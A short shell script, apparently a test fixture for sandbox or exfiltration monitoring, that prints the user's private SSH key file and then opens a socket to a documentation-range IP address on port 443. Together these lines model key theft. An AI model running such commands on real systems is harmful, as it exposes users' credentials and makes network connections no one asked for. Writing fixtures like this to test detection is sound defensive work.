# Reads an SSH key, then tries to send something out.
cat "$HOME/.ssh/id_rsa" 2>/dev/null || true
python3 -c '
import socket
try:
    socket.create_connection(("203.0.113.9", 443), timeout=2)
except OSError:
    pass
'
